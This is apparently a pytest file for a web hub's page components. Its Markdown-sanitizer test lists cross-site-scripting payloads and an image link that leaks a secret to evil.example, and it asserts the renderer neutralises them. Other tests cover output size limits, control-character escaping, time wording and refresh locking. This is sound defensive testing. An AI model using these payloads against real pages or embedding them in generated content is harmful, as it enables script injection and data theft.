"""Parts that pages share: strangers' Markdown, arguments that hide something, times in words, refreshing."""

import asyncio
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from contracts.text import escaped
from contracts.tracing.trace import SpanDetail, TurnSpan
from hub_web import sb
from hub_web.parts.plots import axis_number
from hub_web.parts.turns.markdown import rendered
from hub_web.parts.turns.turn import steps_of
from hub_web.texts import LANGUAGE, ago, milliseconds, text


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/leak?secret)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<iframe src='https://evil.example'></iframe>",
        "<style>@import 'https://evil.example'</style>",
        "[x](javascript:alert(1))",
        "[x](  JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "[x](//evil.example)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        '[x](https://ok.example "\\"><img src=x onerror=alert(1)>")',
        "```html\n<img src=x>\n```",
        "`<img src=x>`",
    ],
)
def test_markdown_loads_and_runs_nothing(text: str) -> None:
    shown = rendered(text).lower()
    for tag in (
        "<img",
        "<script",
        "<iframe",
        "<style",
        "<svg",
        'href="javascript',
        'href="data',
        'href="vbs',
    ):
        assert tag not in shown
    assert 'href="//' not in shown


def test_markdown_is_rendered() -> None:
    shown = rendered(
        "**on** [docs](https://example.org) [lamp](/devices/lamp)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<strong>on</strong>" in shown
    assert '<a href="https://example.org" rel="noopener noreferrer" target="_blank">' in shown
    assert 'href="/devices/lamp"' in shown
    assert "<td>1</td>" in shown
    tasks = rendered("- [x] milk\n- [ ] <b>eggs\n\n```py\nlight = 'on'  # <b>\n```")
    assert tasks.count('<input type="checkbox" disabled') == 2
    assert 'aria-label="done" checked> milk' in tasks
    assert 'class="sb-hl-s1"' in tasks
    assert 'aria-label="Copy the code"' in tasks
    assert "<b>" not in tasks


@pytest.mark.parametrize(
    "text",
    [
        f"{'|a' * 40}\n{'|-' * 40}\n{'||' * 1_000}\n" + "|\n" * 1_600,
        f"> {'|a' * 40}\n> {'|-' * 40}\n" + "> |\n" * 1_600,
        f"[a]:\n/{'x' * 5_000}\n\n" + "[a]" * 5_000,
        "```yaml\n" + "*" * 30_000 + "\n```",
    ],
)
def test_no_markdown_grows_without_bound(text: str) -> None:
    assert len(rendered(text)) < 20 * len(text)


def test_nothing_hides_in_an_argument() -> None:
    assert escaped("front\u202eedoor\x1b[2K\u200b") == "front\\u202eedoor\\u001b[2K\\u200b"


def test_times_are_said_in_words() -> None:
    now, noon = datetime.now(UTC), datetime(2020, 3, 4, 11, 5, tzinfo=UTC)
    assert ago(now + timedelta(hours=2, seconds=5)) == "in 2 hours"
    assert ago(None) == ""
    assert text.at(ZoneInfo("Europe/Berlin"), noon) == "4 Mar 2020, 12:05"
    language = LANGUAGE.set("de")
    assert ago(now - timedelta(minutes=3)) == "vor 3 Minuten"
    assert milliseconds(1_840) == "1,8 s"
    assert text.at(ZoneInfo("Europe/Berlin"), noon) == "4. März 2020, 12:05"
    LANGUAGE.reset(language)


def test_the_steps_of_a_recorded_turn_are_its_tools_and_skills() -> None:
    spans = [
        TurnSpan(kind="model", name="house", start_ms=0, ms=10),
        TurnSpan(
            kind="tool",
            name="python_exec",
            start_ms=1,
            ms=9,
            parent=0,
            detail=SpanDetail(arguments={"code": "1"}),
        ),
        TurnSpan(
            kind="skill",
            name="a.b",
            start_ms=2,
            ms=5,
            parent=1,
            device="pc",
            outcome="failed",
            detail=SpanDetail(error="no"),
        ),
    ]
    tool, skill = steps_of(spans)
    assert (tool.arguments, tool.inner, skill.result, skill.device, skill.inner) == (
        {"code": "1"},
        False,
        "no",
        "pc",
        True,
    )


@pytest.mark.parametrize(
    ("value", "said"),
    [(21.5, "21.5"), (1234, "1234"), (-12345, "-12.35k"), (9999.6, "10k"), (4.56e6, "4.56M"), (0, "0")],
)
def test_an_axis_has_no_exponents(value: float, said: str) -> None:
    assert axis_number(value) == said


async def test_a_refresh_that_is_cancelled_while_it_waits_does_not_block_later_ones() -> None:
    go, read = asyncio.Event(), 0

    async def show() -> None:
        nonlocal read
        read += 1
        await go.wait()

    once = sb.one_at_a_time(show)

    async def refresh() -> None:
        await once()

    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(refresh())
        await asyncio.sleep(0)
        waits = tasks.create_task(refresh())
        await asyncio.sleep(0)
        waits.cancel()
        await asyncio.wait([waits])
        tasks.create_task(refresh())
        go.set()
    assert read == 2
